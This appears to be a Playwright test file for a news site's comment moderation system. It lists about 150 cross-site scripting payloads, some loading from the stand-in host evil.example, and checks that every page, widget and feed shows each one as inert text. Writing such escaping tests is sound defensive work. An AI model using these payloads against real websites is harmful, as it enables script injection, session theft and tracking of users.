"""A hundred and fifty ways to smuggle a script, from the public classes of them, through every door that shows words.

What each would do is `hit()`, or a request to a stranger; what each must do is stand there as it was typed.
"""

import json
from collections.abc import Iterator
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Page, Request, expect

from tests.browser.conftest import OpenWindow
from tests.browser.newsroom import Newsroom, box, card_of, sign_in, troubles

TAGS = [
    "<script>hit()</script>",
    "<script >hit()</script >",
    "<script/x>hit()</script>",
    "<script\n>hit()</script\n>",
    "<SCRIPT>hit()</SCRIPT>",
    "<sCrIpT>hit()</ScRiPt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,hit()></script>",
    "<script type=module>hit()</script>",
    "<script type=text/vbscript>hit()</script>",
    "<script async defer>hit()</script>",
    "<script>hit()",
    "<script>/*",
    "<<script>hit();//<</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<noscript><p title='</noscript><script>hit()</script>'>",
    "<svg><script>hit()</script></svg>",
    "<svg><script href=data:,hit() />",
    "<svg><script xlink:href=data:,hit() />",
    "<math><script>hit()</script></math>",
    "<iframe src=javascript:hit()>",
    "<iframe srcdoc='<script>top.hit()</script>'>",
    "<iframe src=//evil.example>",
    "<frameset onload=hit()>",
    "<object data=javascript:hit()>",
    "<object data=//evil.example/x.swf>",
    "<embed src=javascript:hit()>",
    "<applet code=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>",
    "<link rel=prefetch href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=javascript:hit()>",
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "<style>@import'//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x.png)}</style>",
    "<form action=javascript:hit()><input type=submit>",
    "<form><button formaction=javascript:hit()>x",
    "<isindex type=image src=1 onerror=hit()>",
    "<template><script>hit()</script></template>",
    "<portal src=//evil.example>",
    "<fencedframe src=//evil.example>",
]
ATTRIBUTES = [
    "<img src=x onerror=hit()>",
    "<img src=x onerror='hit()'>",
    '<img src=x onerror="hit()">',
    "<img src=x:x onerror=hit()//",
    "<img src onerror=hit()>",
    "<img/src=x/onerror=hit()>",
    "<img\tsrc=x\tonerror=hit()>",
    "<img\nsrc=x\nonerror\n=\nhit()>",
    "<IMG SRC=X ONERROR=hit()>",
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<img lowsrc=//evil.example>",
    "<image src=x onerror=hit()>",
    "<picture><source srcset=x><img onerror=hit() src=x>",
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    "<svg onload=hit()//",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=hit()>",
    "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()/>#x'>",
    "<svg><image href=//evil.example/x.png>",
    "<svg><foreignObject><img src=x onerror=hit()>",
    "<body onload=hit()>",
    "<body background=//evil.example/x.png>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<textarea autofocus onfocus=hit()>",
    "<keygen autofocus onfocus=hit()>",
    "<video src=x onerror=hit()>",
    "<video><source onerror=hit()>",
    "<video poster=//evil.example/x.png>",
    "<audio src=x onerror=hit()>",
    "<track src=//evil.example/x.vtt>",
    "<details open ontoggle=hit()>x</details>",
    "<dialog open onclose=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<div onpointerenter=hit() style=position:fixed;inset:0>",
    "<p style=animation-name:x onanimationstart=hit()>",
    "<p style='background:url(//evil.example/x.png)'>",
    "<table background=//evil.example/x.png>",
    "<x contenteditable onfocus=hit() autofocus tabindex=0>",
    "<button popovertarget=x onclick=hit()>",
    "<a href=x ping=//evil.example>x</a>",
    "<x onclick=hit() accesskey=x>",
    '" onmouseover=hit() x="',
    "' onmouseover=hit() x='",
    "` onmouseover=hit() x=`",
    '" autofocus onfocus=hit() tabindex=0 x="',
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    "/><img src=x onerror=hit()>",
    "></a><img src=x onerror=hit()>",
    'x" style="background:url(//evil.example)',
]
ADDRESSES = [
    "<a href=javascript:hit()>x</a>",
    "<a href=JaVaScRiPt:hit()>x</a>",
    "<a href='java\tscript:hit()'>x</a>",
    "<a href='java\nscript:hit()'>x</a>",
    "<a href=' javascript:hit()'>x</a>",
    "<a href=javascript&colon;hit()>x</a>",
    "<a href=&#106;avascript:hit()>x</a>",
    "<a href=data:text/html,<script>hit()</script>>x</a>",
    "<a href=vbscript:hit()>x</a>",
    "javascript:hit()",
    "javascript://x.example/%0ahit()",
    'https://x.example/"onmouseover="hit()',
    "https://x.example/'onmouseover='hit()",
    "https://x.example/><script>hit()</script>",
    "https://x.example/</a><script>hit()</script>",
    "https://x.example/?a=<svg/onload=hit()>",
    'https://x.example/#"><img/src/onerror=hit()>',
    "https://x.example/&quot;onclick=&quot;hit()",
    "https://javascript:hit()@evil.example",
    "https://x.example\\@evil.example",
    'https://[::1]:99999/"onload=hit()',
    "http://https://javascript:hit()",
    "[x](javascript:hit())",
    "![x](//evil.example/x.png)",
    "<javascript:hit()>",
    "[x]: javascript:hit()",
    "[url=javascript:hit()]x[/url]",
    "[img]//evil.example/x.png[/img]",
]
ENCODINGS = [
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&#x3c;script&#x3e;hit()&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "%253Cscript%253Ehit()%253C/script%253E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "<img src=x onerror=&#104;&#105;&#116;&#40;&#41;>",
    "<img src=x onerror=\\u0068it()>",
    "<script>\\u0068it()</script>",
    "<svg><script>&#104;it()</script>",
    "PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "<iframe src='data:text/html;base64,PHNjcmlwdD50b3AuaGl0KCk8L3NjcmlwdD4='>",
    '\\";hit();//',
    "\\';hit();//",
    "`;hit();//",
    "${hit()}",
    "{{hit()}}",
    "{{constructor.constructor('hit()')()}}",
    "{% raise hit() %}{{ config }}",
    "#{hit()}<%= hit() %>",
    "*/hit()/*",
    "hit()//\r\n<!--",
    "]]><script>hit()</script>",
    "<![CDATA[<script>hit()</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>hit()</x:script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '//evil.example'>]>&y;",
    "<!--#exec cmd='x'--><!--#include virtual='//evil.example'-->",
    "<esi:include src=//evil.example />",
]
MUTATIONS = [
    "</textarea><script>hit()</script>",
    "</title><script>hit()</script>",
    "</style><script>hit()</script>",
    "</script><script>hit()</script>",
    "</template><script>hit()</script>",
    "</noscript><img src=x onerror=hit()>",
    "</article></li></ol><script>hit()</script>",
    "--><script>hit()</script>",
    "--!><script>hit()</script>",
    "<!--><script>hit()</script>",
    "<!-- --!><img src=x onerror=hit()> -->",
    "<![><img src=x onerror=hit()>]>",
    "<noscript><style></noscript><img src=x onerror=hit()>",
    "<svg><style><img src=x onerror=hit()></style>",
    '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=hit()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<math><annotation-xml encoding=text/html><script>hit()</script>",
    "<select><template><img src=x onerror=hit()></template></select>",
    "<xmp><p title='</xmp><svg/onload=hit()>'>",
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
    "<plaintext><script>hit()</script>",
    "<form id=x name=fetch><input name=parentNode>",
    "<img name=currentScript><img name=getElementById>",
    "<a id=comments><a id=comments name=submit>",
    "__proto__ constructor prototype",
]
LETTERS = [
    "＜script＞hit()＜/script＞",
    "‹script›hit()‹/script›",
    "<ſcript>hit()</ſcript>",
    "<scrıpt>hit()</scrıpt>",
    "<İMG SRC=x onerror=hit()>",
    "<img src=x onerror=ʰit()>",
    "ʺ onmouseover=hit() x=ʺ",
    "＂ onmouseover=hit() x=＂",
    "＇ onmouseover=hit() x=＇",
    "<img\u00a0src=x\u00a0onerror=hit()>",
    "<img\u3000src=x\u3000onerror=hit()>",
    "<img/\u2003src=x onerror=hit()>",
    "𝒽𝒾𝓉() <𝗌𝖼𝗋𝗂𝗉𝗍>hit()</𝗌𝖼𝗋𝗂𝗉𝗍>",
    "<script\u0338>hit()</script\u0338>",
    "👩‍👩‍👧<script>hit()</script>🇻🇳",
    "<b>đậm</b><script>hit()</script> Nguyễn",
]
VECTORS = [*TAGS, *ATTRIBUTES, *ADDRESSES, *ENCODINGS, *MUTATIONS, *LETTERS]
AT_ONCE = 25  # in one article: as many as the review page shows
ARTICLES = [(f"vectors-{at}", VECTORS[at : at + AT_ONCE]) for at in range(0, len(VECTORS), AT_ONCE)]


@pytest.fixture(scope="module")
def waiting(newsroom: Newsroom) -> dict[str, list[str]]:
    """Every vector as text, as a name and as an article's title; ids by article."""
    return {
        article: [
            newsroom.submitted(article=article, body=f"x {one}", name=f"x {one}"[:80], article_title=f"x {one}")
            for one in vectors
        ]
        for article, vectors in ARTICLES
    }


@pytest.fixture(scope="module")
def published(newsroom: Newsroom, waiting: dict[str, list[str]]) -> None:
    for ids in waiting.values():
        newsroom.approve(*ids)


@pytest.fixture(scope="module")
def lan(newsroom: Newsroom) -> str:
    return newsroom.moderator("Lan")


@pytest.fixture
def page(window: OpenWindow) -> Page:
    return window().new_page()


@pytest.fixture
def strays(page: Page) -> Iterator[list[str]]:
    """Requests that leave the service; at the end there must be none, and nothing may have run."""
    noted: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith("http://127.0.0.1:"):
            noted.append(request.url)

    page.on("request", note)
    page.on("dialog", lambda dialog: noted.append(dialog.message))
    yield noted
    assert (noted, troubles(page)) == ([], [])


def kept(vectors: list[str]) -> list[str]:
    """As they are stored: line ends are the only thing that changes."""
    return [f"x {one}".replace("\r\n", "\n").strip() for one in vectors]


def test_there_are_enough_and_no_two_alike() -> None:
    assert len(set(VECTORS)) == len(VECTORS) >= 150


@pytest.mark.usefixtures("strays")
def test_on_the_review_page(page: Page, lan: str, waiting: dict[str, list[str]]) -> None:
    sign_in(page, lan)
    for article, vectors in ARTICLES:
        page.goto(f"/moderate/?article={article}")
        cards = page.get_by_role("article")
        expect(cards).to_have_count(len(waiting[article]))
        assert cards.locator(".text").all_text_contents() == kept(vectors)
        assert troubles(page) == []


@pytest.mark.usefixtures("published", "strays")
@pytest.mark.parametrize(("article", "vectors"), ARTICLES, ids=[article for article, _ in ARTICLES])
def test_in_the_widget(page: Page, article: str, vectors: list[str]) -> None:
    page.route("**/paper", lambda route: route.fulfill(body=PAPER.format(article), content_type="text/html"))
    page.goto("/paper")
    widget = page.locator("article-comments")
    expect(widget.get_by_role("article")).to_have_count(min(20, len(vectors)))
    if len(vectors) > 20:
        widget.get_by_role("button", name="Show more comments").click()
    expect(widget.get_by_role("article")).to_have_count(len(vectors))
    assert [part.inner_text() for part in widget.locator(".text").all()] == [shown(one) for one in kept(vectors)]
    hrefs = widget.locator("a").evaluate_all("links => links.map(link => link.protocol)")
    assert set(hrefs) <= {"http:", "https:"}


PAPER = """<!doctype html><html lang="en"><script src="/widget.js" defer></script>
<article-comments article="{}" loading="eager"></article-comments>"""


def shown(text: str) -> str:
    """A text as a browser shows it: white space within a line is one space."""
    return "\n".join(" ".join(part for part in line.replace("\t", " ").split(" ") if part) for line in text.split("\n"))


@pytest.mark.usefixtures("published", "strays")
@pytest.mark.parametrize("article", [article for article, _ in ARTICLES])
def test_on_the_page_made_on_the_server_and_in_a_fragment(page: Page, article: str) -> None:
    path = "/embed?" + urlencode({"article": article, "lang": "en", "article_title": "</script><script>hit()</script>"})
    page.goto(path)
    shown = kept(dict(ARTICLES)[article])[:20]
    expect(page.get_by_role("article")).to_have_count(len(shown))
    found = page.locator("script[type='application/ld+json']").text_content()
    assert [comment["text"] for comment in json.loads(found or "")["comment"]] == shown
    assert troubles(page) == []
    fragment = page.context.request.get(f"{path}&fragment=1").text()
    page.evaluate(
        "html => document.body.replaceChildren(document.createRange().createContextualFragment(html))", fragment
    )


@pytest.mark.usefixtures("published", "strays")
@pytest.mark.parametrize("article", [article for article, _ in ARTICLES])
def test_in_a_feed_and_in_a_feed_reader_that_trusts_it(page: Page, article: str) -> None:
    path = f"/feeds/article.atom?article={article}"
    page.goto(path)
    feed = page.context.request.get(path).text()
    page.goto("/openapi.json")
    entries = page.evaluate(
        """(feed) => {
          const parsed = new DOMParser().parseFromString(feed, "application/xml");
          for (const content of parsed.querySelectorAll("content")) document.body.innerHTML += content.textContent;
          return parsed.querySelector("parsererror") ? -1 : parsed.querySelectorAll("entry").length;
        }""",
        feed,
    )
    assert entries == len(dict(ARTICLES)[article])


CLASSES = {"tags": TAGS, "attributes": ATTRIBUTES, "addresses": ADDRESSES, "encodings": ENCODINGS,
           "mutations": MUTATIONS, "letters": LETTERS}  # fmt: skip


@pytest.mark.usefixtures("strays")
def test_wherever_else_a_comment_or_a_reason_is_shown(page: Page, newsroom: Newsroom, lan: str) -> None:
    sign_in(page, lan)
    for name, vectors in CLASSES.items():
        everything = "\n\n".join(vectors).replace("\r", "")
        reason = " ".join(everything.split())[:500].strip()
        receipt = newsroom.receipt(
            article=f"class-{name}", article_title=reason[:300], body=everything, name=reason[:80].strip()
        )
        comment_id = receipt.rpartition("/")[2][:28]

        page.goto(f"/moderate/?article=class-{name}")
        card = card_of(page, comment_id)
        card.locator(".person-link").click()
        expect(card.locator(".person .said-here").first).to_contain_text(reason[:60])
        assert troubles(page) == [], "the record of a person, opened on a card"
        card.get_by_role("link", name="Everything about this person").click()
        box(page, "A new note").fill(everything[:500])
        page.get_by_role("button", name="Keep the note").click()
        expect(page.get_by_label("Notes for colleagues")).to_contain_text(reason[:60])
        assert troubles(page) == [], "the page of a person, with a note"

        newsroom.reject(comment_id, reason)
        page.goto(f"/moderate/comments/{comment_id}")
        expect(box(page, "Text of the comment")).to_have_value(everything.strip())
        expect(page.get_by_label("History")).to_contain_text(reason[:60])
        assert troubles(page) == [], "the page of a comment"

        page.goto(receipt)
        expect(page.locator("dl")).to_contain_text(reason)
        assert troubles(page) == [], "the receipt"

    page.goto("/moderate/log")
    expect(page.get_by_role("main")).to_contain_text(reason)
